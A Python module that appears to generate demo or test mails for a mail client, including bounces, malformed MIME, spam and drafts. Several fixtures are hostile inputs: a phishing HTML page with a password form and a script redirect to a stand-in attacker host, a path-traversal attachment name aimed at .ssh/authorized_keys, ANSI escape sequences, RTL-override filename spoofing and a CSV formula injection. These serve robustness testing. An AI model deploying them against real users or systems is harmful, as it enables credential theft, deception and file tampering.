"""The mails that go wrong or mean harm: a bounce, broken sources, hostile names, spam, and three drafts."""

from __future__ import annotations

import base64
from collections.abc import Iterator
from datetime import datetime, timedelta
from random import Random

from app.domain.mail.messages import Address
from app.services.demo.catalogue import House
from app.services.demo.letters import DRAFTS, INBOX, JUNK, SENT, Letter, compose
from app.services.demo.mime import Attachment, Style, date_field, encoded_words
from app.services.demo.stories import Storyteller
from app.services.demo.times import german_time, office_time
from app.services.demo.voices import REP_STYLES, house_closing

_UTF8 = Style("utf-8", "quoted-printable", 0)
_HTML = Style("utf-8", "base64", 0, html=True)


class Oddities:
    """Makes them all for one rep. `letters()` yields Letters of the inbox, Sent, Spam and Drafts folders."""

    def __init__(self, house: House, teller: Storyteller, random: Random, now: datetime) -> None:
        self._rep = Address(house.rep.name, house.rep.address)
        self._house = house
        self._teller = teller
        self._random = random
        self._now = now

    def letters(self, unanswered: list[Letter]) -> Iterator[Letter]:
        """`unanswered`: two letters of the inbox that the drafts begin to answer."""
        yield from self._bounce()
        yield self._missing_boundary()
        yield self._wrong_charset()
        yield self._broken_words()
        yield self._escape_sequences()
        yield self._hostile_page()
        yield from self._spam()
        yield from self._drafts(unanswered)

    def _when(self, days: float) -> datetime:
        return german_time(office_time(self._now - timedelta(days=days), self._random)).replace(microsecond=0)

    def _letter(self, days: float, sender: tuple[str, str], subject: str, own: str, **more: object) -> Letter:
        domain = sender[1].rpartition("@")[2]
        letter = Letter(
            *(
                self._teller.message_id(domain),
                self._when(days),
                INBOX,
                Address(*sender),
                [self._rep],
                subject,
                own,
            ),
            style=_UTF8,
        )
        for name, value in more.items():
            setattr(letter, name, value)
        return letter

    def _bounce(self) -> Iterator[Letter]:
        """A report of RFC 3464 on a mail to somebody who has left, and the mail itself in the Sent folder."""
        gone = Address("Harald Kloss", "h.kloss@galvanik-thielen.example")
        when = self._when(1.2)
        own = "Guten Tag Herr Kloss,\n\nanbei wie besprochen die neue Preisliste für Membranen und Ventilsätze. Die "
        own += "Preise gelten ab dem nächsten Ersten.\n\n" + house_closing(
            self._house, self._house.rep, when, 0, False
        )
        sent = Letter(
            *(self._teller.message_id(self._house.domain), when, SENT, self._rep, [gone]),
            *("Neue Preisliste Dosierpumpen", own),
            style=REP_STYLES[0],
        )
        yield sent
        host = "mx.galvanik-thielen.example"
        report = self._letter(
            0, ("Mail Delivery System", f"mailer-daemon@{host}"), "Unzustellbar: " + sent.subject, ""
        )
        report.when = when + timedelta(seconds=41)
        status = (
            f"Reporting-MTA: dns; {host}\nArrival-Date: {date_field(when)}\n\nFinal-Recipient: rfc822; {gone.address}\n"
            "Action: failed\nStatus: 5.1.1\nDiagnostic-Code: smtp; 550 5.1.1 User unknown\n"
        )
        words = (
            f"Ihre Nachricht konnte nicht zugestellt werden.\n\n<{gone.address}>: Das Postfach gibt es nicht "
            "(550 5.1.1 User unknown).\n\nBitte prüfen Sie die Adresse.\n"
        )
        fields = compose(sent).partition(b"\n\n")[0].decode()
        parts = [("text/plain; charset=utf-8", words), ("message/delivery-status", status)]
        parts.append(("text/rfc822-headers; charset=utf-8", fields + "\n"))
        body = (
            "".join(f"--zustellung\nContent-Type: {kind}\n\n{text}\n" for kind, text in parts)
            + "--zustellung--\n"
        )
        kind = 'multipart/report; report-type=delivery-status; boundary="zustellung"'
        yield self._raw(report, f"Auto-Submitted: auto-replied\nContent-Type: {kind}\n", body.encode())

    def _raw(
        self, letter: Letter, fields: str, body: bytes, subject: bytes = b"", name: bytes = b""
    ) -> Letter:
        """Give the letter a source of its own. `subject` and `name` go into the header as they are."""
        name = name or letter.sender.name.encode()
        subject = subject or encoded_words(letter.subject).encode()
        head = b"From: %s <%s>\n" % (name, letter.sender.address.encode())
        head += b"To: %s <%s>\n" % (self._rep.name.encode(), self._rep.address.encode())
        head += b"Subject: %s\nMessage-ID: %s\n" % (subject, letter.id.encode())
        head += b"Date: %s\nMIME-Version: 1.0\n" % date_field(letter.when).encode()
        letter.raw = head + fields.encode() + b"\n" + body
        return letter

    def _missing_boundary(self) -> Letter:
        """The header names another boundary than the body has, and the attachment ends in the middle."""
        sender = ("Dispo Elbtrans", "dispo@elbtrans-spedition.example")
        letter = self._letter(2.1, sender, "Abliefernachweis", "")
        body = "--NextPart_alt\nContent-Type: text/plain; charset=utf-8\n\nGuten Tag,\n\nanbei der unterschriebene "
        body += (
            "Abliefernachweis zu Ihrer Sendung nach Köln. Der Empfänger hat ein Packstück unter Vorbehalt "
        )
        body += "angenommen.\n\nElbtrans Spedition, Disposition\n\n--NextPart_alt\nContent-Type: application/pdf; "
        body += 'name="Nachweis.pdf"\nContent-Transfer-Encoding: base64\n\nJVBERi0xLjQKMSAwIG9iago8PC9UeXBlL0NhdGFsb2cvU'
        return self._raw(letter, 'Content-Type: multipart/mixed; boundary="NextPart_neu"\n', body.encode())

    def _wrong_charset(self) -> Letter:
        """Says US-ASCII and writes windows-1252, in the subject too."""
        sender = ("Mühlenbau Günther", "werkstatt@muehlenbau-guenther.example")
        letter = self._letter(3.3, sender, "Rückfrage zu Größe und Überdruck", "")
        body = "Schönen guten Tag,\n\nwir hätten eine Rückfrage: Verträgt die Größe NK 65 auch 8 bar Überdruck, und "
        body += "was kostet der größere Motor? Bitte nur grob, höchstens „über den Daumen“.\n\nGrüße aus der Mühle\n"
        body += "Jörg Günther\n"
        fields = "Content-Type: text/plain; charset=us-ascii\nContent-Transfer-Encoding: 8bit\n"
        raw = (body.encode("windows-1252"), letter.subject.encode("windows-1252"))
        return self._raw(letter, fields, raw[0], raw[1], sender[0].encode("windows-1252"))

    def _broken_words(self) -> Letter:
        """Encoded words that end too early or name a charset that nobody knows."""
        sender = ("Kälteanlagen Böhm", "boehm@kaelte-boehm.example")
        letter = self._letter(4.2, sender, "Prüfung der Sole-Pumpen", "")
        body = "Hallo Frau Berg,=0A=0Adie Pr=FCfung der Solepumpen ist f=C3=BCr die n=E4chste Woche geplant. "
        body += "K=F6nnen Sie uns vorher noch zwei Dichtungen schicken?=0A=0AGru=\n=DF, Bernd B=XXhm\n"
        fields = (
            "Content-Type: text/plain; charset=x-unbekannt\nContent-Transfer-Encoding: quoted-printable\n"
        )
        subject = (
            b"=?utf-8?Q?Pr=C3=BCfung_der_?= =?utf-8?B?U29sZS1QdW1wZW4gw?= =?x-unbekannt?Q?n=E4chste_Woche?="
        )
        return self._raw(letter, fields, body.encode(), subject, b"=?iso-8859-1?Q?K=E4lteanlagen_B=F6hm")

    def _escape_sequences(self) -> Letter:
        """A subject that would colour the screen and set its title, and a file name that reads backwards."""
        hidden = "Rechnung_\u202efdp.exe"
        subject = "Rechnung \x1b[31mDRINGEND\x1b[0m \x1b]0;alles bezahlt\x07 prüfen"
        own = "Guten Tag,\n\ndie Rechnung zu Ihrer Bestellung finden Sie im Anhang. Bitte öffnen Sie auch die Tabelle.\n\n"
        own += "\x1b[2J\x1b[HBuchhaltung\n"
        rows = (
            '"Betrag";"Hinweis"\r\n"1.249,00";"=HYPERLINK(""https://konto-pruefen.example"";""Details"")"\r\n'
        )
        letter = self._letter(
            0.6, ("\u202eelleR anA\u202c \x1b[5m", "rechnung@zahlung-eilt.example"), subject, own
        )
        letter.attachments = [
            Attachment(hidden, "application/octet-stream", b"MZ nur ein Beispiel"),
            Attachment("Rechnung.csv", "text/csv", rows.encode(), "; charset=utf-8"),
        ]
        coded = [
            f"=?utf-8?B?{base64.b64encode(text.encode()).decode()}?=".encode()
            for text in (subject, letter.sender.name)
        ]
        source = compose(letter)
        body = source[source.index(b"Content-Type: multipart/mixed") :]
        fields, _, body = body.partition(b"\n\n")
        return self._raw(letter, fields.decode() + "\n", body, coded[0], coded[1])

    def _hostile_page(self) -> Letter:
        """HTML with a script, a form, a link that shows another host, and a file name that leaves its folder."""
        page = (
            "<html><body><p>Guten Tag,</p><p>Ihr Postfach ist <b>fast voll</b>. Bitte bestätigen Sie Ihr Kennwort unter "
            '<a href="https://anmeldung.kennwort-klau.example/nordholz">https://www.nordholz-pumpen.example/postfach</a>.'
            '</p><form action="https://kennwort-klau.example/p"><input name="kennwort"></form>'
            '<script>document.location="https://kennwort-klau.example"</script>'
            '<img src="https://kennwort-klau.example/gelesen.gif" width="1" height="1"></body></html>'
        )
        own = "Guten Tag,\n\nIhr Postfach ist fast voll. Bitte bestätigen Sie Ihr Kennwort auf der Anmeldeseite."
        sender = ("IT-Support Nordholz Pumpen", "support@nordholz-pumpen-it.example")
        letter = self._letter(1.7, sender, "Ihr Postfach ist fast voll", own)
        letter.style, letter.html = _HTML, page
        letter.attachments = [Attachment("../../.ssh/authorized_keys", "text/plain", b"nur ein Beispiel\n")]
        return letter

    def _spam(self) -> Iterator[Letter]:
        offers = (
            (
                0.9,
                "Paketdienst",
                "info@paket-zoll.example",
                INBOX,
                "Ihr Paket wartet: Zollgebühr 2,99 € offen",
            ),
            (2.4, "SEO Rakete", "max@seo-rakete.example", JUNK, "Platz 1 bei Suchmaschinen – garantiert"),
            (
                7.5,
                "Dr. Leopold Mbeki",
                "leopold@erbschaft.example",
                JUNK,
                "Vertraulich: Erbschaft 8.500.000 Euro",
            ),
            (16.2, "KryptoClub", "gewinn@kryptoclub.example", JUNK, "Anke, 3 Plätze sind noch frei!!!"),
            (31.0, "Ihre Hausbank", "sicherheit@haus-bank-24.example", JUNK, "Ihr Konto wurde eingeschränkt"),
        )
        texts = (
            "Lieber Kunde,\n\nIhr Paket konnte nicht zugestellt werden, weil eine Gebühr von 2,99 € offen ist. Bitte zahlen "
            "Sie innerhalb von 24 Stunden, sonst geht das Paket zurück:\nhttps://paket-zoll.example/zahlen",
            "Hallo,\n\nich habe mir Ihre Webseite angesehen und 47 Fehler gefunden. Für nur 99 Euro im Monat bringen wir Sie "
            "auf Platz 1. Antworten Sie mit JA.\n\nMax",
            "Sehr geehrter Freund,\n\nich bin Anwalt eines verstorbenen Kunden gleichen Nachnamens. Bitte senden Sie mir "
            "diskret Ihre Bankverbindung, wir teilen die Summe 60 zu 40.\n\nDr. Leopold Mbeki",
            "Anke!\n\nUnsere Mitglieder verdienen im Schlaf 1.200 € am Tag. Melde dich heute an und sichere dir einen Bonus. "
            "Kein Risiko, versprochen.",
            "Sehr geehrte Kundin,\n\naus Sicherheitsgründen wurde Ihr Konto eingeschränkt. Bestätigen Sie Ihre Daten unter "
            "https://haus-bank-24.example/login, um die Sperre aufzuheben.\n\nIhr Sicherheitsteam",
        )
        for (days, name, address, folder, subject), own in zip(offers, texts, strict=True):
            letter = self._letter(days, (name, address), subject, own, folder=folder, seen=days > 20)
            letter.headers = [("X-Spam-Flag", "YES")] if folder == JUNK else []
            yield letter

    def _drafts(self, unanswered: list[Letter]) -> Iterator[Letter]:
        texts = (
            "vielen Dank für Ihre Anfrage. Ich prüfe gerade, ob",
            "danke für Ihre Nachricht. Bevor ich Ihnen etwas Falsches sage, kläre ich das mit der Werkstatt. Bis",
        )
        for answers, text in zip(unanswered, texts, strict=True):
            when = german_time(answers.when + (self._now - answers.when) / 2).replace(microsecond=0)
            yield Letter(
                *(self._teller.message_id(self._house.domain), when, DRAFTS, self._rep, [answers.sender]),
                *(f"Re: {answers.subject}", f"Guten Tag,\n\n{text}", REP_STYLES[0]),
                answers=answers,
                draft=True,
            )
        own = "Hallo zusammen,\n\nzur Vertriebsrunde bringe ich mit:\n\n- Liste der offenen Angebote\n- Nachlese FLUIDTEC\n- "
        colleague = self._house.colleagues["petersen"]
        yield Letter(
            *(self._teller.message_id(self._house.domain), self._when(0.4), DRAFTS, self._rep),
            *([Address(colleague.name, colleague.address)], "", own, REP_STYLES[0]),
            draft=True,
        )
